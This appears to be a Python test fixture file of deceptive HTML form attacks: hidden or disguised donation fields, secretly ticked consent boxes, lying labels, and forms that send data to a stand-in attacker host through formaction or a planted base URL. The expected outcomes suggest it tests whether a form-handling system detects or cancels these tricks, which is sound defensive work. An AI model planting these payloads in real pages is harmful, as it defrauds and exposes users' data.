"""Tricks of plain HTML: hidden and doubled fields, attributes that redirect a form, encodings, labels that lie."""

from __future__ import annotations

from tests.attacks.oracle import pairs_of
from tests.attacks.tricks import EMAIL, NAME, Trick, at, form, has, posts, stolen

EXTRA = '<input type="hidden" name="donation" value="25.00">'
SHOWN = {"donation": "25.00"}
OTHER = "another site"


def extra(name: str, more: str, **rest: object) -> Trick:
    """A field with an amount that the person does not see on the page."""
    return Trick(name, form(more), has("donation", "25.00"), shows=SHOWN, **rest)  # type: ignore[arg-type]


CONSENT = '<label><input type="checkbox" name="newsletter" value="yes" {}> Send me offers by email</label>'

TRICKS = (
    extra("hidden-field", EXTRA),
    extra("off-screen-field", '<input name="donation" value="25.00" style="position: absolute; left: -9999px">'),
    extra("zero-size-field", '<input name="donation" value="25.00" style="width: 0; height: 0; border: 0">'),
    extra("transparent-field", '<input name="donation" value="25.00" style="opacity: 0; position: absolute; '
          'top: 0; right: 0">'),
    extra("nearly-transparent-field", '<input name="donation" value="25.00" style="opacity: .01">'),
    extra("undisplayed-fieldset", '<fieldset style="display: none"><input name="donation" value="25.00"></fieldset>'),
    extra("covered-field", '<div style="position: relative"><input name="donation" value="25.00">'
          '<div style="position: absolute; inset: 0; background: white"></div></div>'),
    extra("white-on-white", '<label style="color: white">Donation <input name="donation" value="25.00" '
          'style="color: white; border: 0"></label>'),
    extra("field-of-no-type-anyone-knows", '<input type="x-hidden" hidden name="donation" value="25.00">'),
    Trick("button-with-a-value", form(button='<button name="donation" value="25.00">Send</button>'),
          has("donation", "25.00"), shows=SHOWN),
    Trick("hidden-ticked-box", form(
          f'<div style="position: absolute; left: -5000px">{CONSENT.format("checked")}</div>'),
          has("newsletter", "yes"), shows={"newsletter": "yes"}, flags={"newsletter": "consent"}),
    Trick("box-ticked-at-the-press", form(CONSENT.format("id='n'"), script="host.addEventListener("
          "'mousedown', () => { document.getElementById('n').checked = true; });"),
          has("newsletter", "yes"), shows={"newsletter": "yes"}, flags={"newsletter": "consent"}),
    Trick("formaction", form(EXTRA, button='<button formaction="/subscribe">Send</button>'), at("/subscribe"),
          shows=SHOWN),
    Trick("formaction-elsewhere", form(button='<button formaction="@EVIL@/take">Send</button>'), stolen, arrive=0,
          approvals=0, ends="cancelled", warns=OTHER, sheets=1),
    Trick("action-elsewhere", form(attributes='method="post" action="@EVIL@/take"'), stolen, arrive=0, approvals=0,
          ends="cancelled", warns=OTHER, sheets=1),
    Trick("formmethod-get", form(button='<button formmethod="get">Send</button>'), lambda seen: seen.posts == 0
          and bool(seen.sent("email")), shows={"email": "e.whitcombe@example.org"}),
    Trick("formenctype-plain", form(EXTRA, button='<button formenctype="text/plain">Send</button>'),
          lambda seen: any(each.header("Content-Type").startswith("text/plain") for each in seen.site), shows=SHOWN),
    Trick("plain-text-with-a-line-break-in-a-value", form(
        '<textarea name="note" hidden>x\ndonation=25.00</textarea>', attributes='method="post" action="/send" '
        'enctype="text/plain"'), has("donation", "25.00"), arrive=1),
    Trick("field-outside-the-form", form(outside='<input type="hidden" form="host" name="donation" value="25.00">'),
          has("donation", "25.00"), shows=SHOWN),
    Trick("button-of-another-form", form(
        button='<button form="other">Send</button>', outside='<form id="other" method="post" action="/other" hidden>'
        '<input name="donation" value="25.00"><input name="email"></form>',
        script="host.addEventListener('input', () => { document.querySelector('#other [name=email]').value = "
        "host.email.value; });"), at("/other"), shows=SHOWN),
    Trick("same-name-twice", form('<label>Amount <input name="amount" value="10.00"></label>'
                                  '<input type="hidden" name="amount" value="1000.00">'), has("amount", "1000.00")),
    Trick("same-name-twice-hidden-first", form(fields='<input type="hidden" name="email" value="x@evil.test">'
                                               + NAME + EMAIL), has("email", "x@evil.test")),
    Trick("php-array-name", form('<input type="hidden" name="email[]" value="x@evil.test">'),
          has("email[]", "x@evil.test"), shows={"email[]": "x@evil.test"}),
    Trick("name-with-a-semicolon", form('<input type="hidden" name="a;donation" value="25.00">'),
          has("a;donation", "25.00")),
    Trick("name-with-a-null", form('<input type="hidden" name="donation&#xFFFD;" value="25.00">'),
          lambda seen: any(b"25.00" in each.body for each in seen.site)),
    Trick("nested-form-by-script", form(outside="<div id='nest'></div>", script="""
        const inner = document.createElement("form"); inner.method = "post"; inner.action = "/inner";
        inner.append(host.querySelector("button")); const hid = document.createElement("input"); hid.type = "hidden";
        hid.name = "donation"; hid.value = "25.00"; inner.append(hid); host.append(inner);
        host.addEventListener("input", () => { let e = inner.querySelector("[name=email]");
          if (!e) { e = document.createElement("input"); e.type = "hidden"; e.name = "email"; inner.append(e); }
          e.value = host.querySelector("[name=email]").value; });"""), at("/inner"), shows=SHOWN),
    Trick("base-elsewhere", form(attributes='method="post" action="take"', head='<base href="@EVIL@/">'), stolen,
          arrive=0, approvals=0, ends="cancelled", warns=OTHER, sheets=1),
    Trick("base-changed-at-the-press", form(
        attributes='method="post" action="take"', script="host.querySelector('button').addEventListener('click', () => "
        "{ const b = document.createElement('base'); b.href = '@EVIL@/'; document.head.append(b); });"), stolen,
        arrive=0, approvals=0, ends="cancelled", warns=OTHER, sheets=1),
    Trick("target-blank", form(EXTRA, attributes='method="post" action="/send" target="_blank"'),
          has("donation", "25.00"), shows=SHOWN),
    Trick("target-frame", form(EXTRA, attributes='method="post" action="/send" target="f"',
                               outside='<iframe name="f"></iframe>'), has("donation", "25.00"), shows=SHOWN),
    Trick("accept-charset", form('<input type="hidden" name="note" value="Fee £10 für Änderung">'
                                 '<input type="hidden" name="_charset_">',
                                 attributes='method="post" action="/send" accept-charset="windows-1252"'),
          has("_charset_", "windows-1252"), charset="windows-1252", shows={"note": "Fee £10 für Änderung"}),
    Trick("dirname", form('<input type="hidden" name="note" value="x" dirname="donation">'
                          '<input name="note2" value="y" dirname="note2.dir" hidden>'), has("note2.dir", "ltr"),
          shows={"note2.dir": "ltr"}),
    Trick("image-button", form(button='<input type="image" name="spot" alt="Send" width="80" height="30">'),
          lambda seen: bool(seen.sent("spot.x"))),
    Trick("second-file-field", form('<p><label>Proof of address <input type="file" name="proof"></label></p>'
                                    '<input type="file" name="extra" hidden>', attributes='method="post" '
                                    'action="/send" enctype="multipart/form-data"', script="""
        host.querySelector("[name=proof]").addEventListener("change", (event) => { const t = new DataTransfer();
          t.items.add(event.target.files[0]); host.querySelector("[name=extra]").files = t.files; });"""),
          lambda seen: any(each.body.count(b"%PDF") == 2 for each in seen.site), files=True),
    Trick("method-override-field", form('<input type="hidden" name="_method" value="DELETE">'),
          has("_method", "DELETE"), shows={"_method": "DELETE"}),
    Trick("another-currency", form('<label>Amount <input name="amount" value="10.00" readonly> €</label>'
                                   '<input type="hidden" name="currency" value="KWD">'), has("currency", "KWD"),
          shows={"currency": "KWD"}),
    Trick("recurring", form('<label>Amount <input name="amount" value="10.00" readonly></label>'
                            '<input type="hidden" name="frequency" value="monthly">'), has("frequency", "monthly"),
          shows={"frequency": "monthly"}),
    Trick("label-says-the-opposite", form('<label style="pointer-events: none">Newsletter: no <input type="checkbox" '
          'name="newsletter" value="yes" checked style="opacity: 0; position: absolute; left: -900px"></label>'),
          has("newsletter", "yes"), shows={"newsletter": "yes"}, flags={"newsletter": "consent"}),
    Trick("label-changed-after-filling", form(
        '<label id="l">Newsletter <select name="newsletter" hidden><option>yes</option></select></label>',
        script="host.addEventListener('input', () => { document.getElementById('l').firstChild.data = "
        "'Newsletter: no'; });"), has("newsletter", "yes"), shows={"newsletter": "yes"}),
    Trick("aria-label-lies", form('<input name="donation" value="25.00" aria-label="Postcode" '
                                  'style="position: absolute; left: -999px">'), has("donation", "25.00"), shows=SHOWN),
    Trick("fields-change-places", form(
        fields='<div style="display: flex; flex-direction: column"><span style="order: 1">Full name</span>'
        '<input name="email" aria-label="Email" style="order: 2"><span style="order: 3">Email</span>'
        '<input name="full_name" aria-label="Full name" style="order: 4"></div>'),
        has("email", "e.whitcombe@example.org"), shows={"email": "e.whitcombe@example.org"}),
    Trick("one-id-twice", form('<label for="d">Postcode</label><input id="d" name="donation" value="25.00" '
                               'style="display: none"><input id="d" name="postcode">'), has("donation", "25.00"),
          shows=SHOWN),
    Trick("text-direction", form('<input type="hidden" name="donation" value="&#x202E;00.52">'),
          lambda seen: any("00.52" in each for each in seen.sent("donation"))),
    Trick("zero-width-letters", form('<input type="hidden" name="do&#x200B;nation" value="25&#x200B;.00">'),
          lambda seen: any("do" in key for each in seen.site for key, _ in pairs_of(each))),
    Trick("very-long-value-hides-an-amount", form('<input type="hidden" name="donation" value="' + "0" * 3000
                                                  + '25.00">'), lambda seen: bool(seen.sent("donation"))),
    Trick("empty-name", form('<input type="hidden" name=" " value="25.00">'), has(" ", "25.00")),
    Trick("wrong-length-by-a-trailing-amount", form('<input type="hidden" name="email" value="&amp;donation=25.00">'),
          has("email", "&donation=25.00")),
    Trick("two-forms-one-press", form(outside='<form id="second" method="post" action="/second" target="s"><input '
          'name="donation" value="25.00" type="hidden"></form><iframe name="s" hidden></iframe>',
          script="host.addEventListener('submit', () => document.getElementById('second').submit());"), posts(2),
          races=True),
)

